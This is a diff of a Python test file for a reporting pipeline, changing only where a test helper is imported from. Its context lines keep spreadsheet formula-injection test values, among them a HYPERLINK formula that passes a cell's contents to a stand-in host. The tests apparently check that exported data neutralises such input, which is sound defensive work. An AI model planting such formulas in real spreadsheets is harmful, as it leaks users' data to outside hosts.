@@ -23,7 +23,7 @@ from pipeline.compare.sources import read_run
 from pipeline.report.evaluate import evaluate, write_report
 from pipeline.report.model_card import model_card
 from tests.pipeline.commands.test_compare import same
-from tests.support.fake_run import FakeRun
+from tests.support.runs.fake_run import FakeRun
 
 CLASSES = ('=HYPERLINK("http://x.invalid/?"&A1,"x")', "@SUM(A1)", "+1+1", "'-quoted", "<b>x</b>")
 FORMULAS = ("=", "+", "-", "@", "\t", "\r")
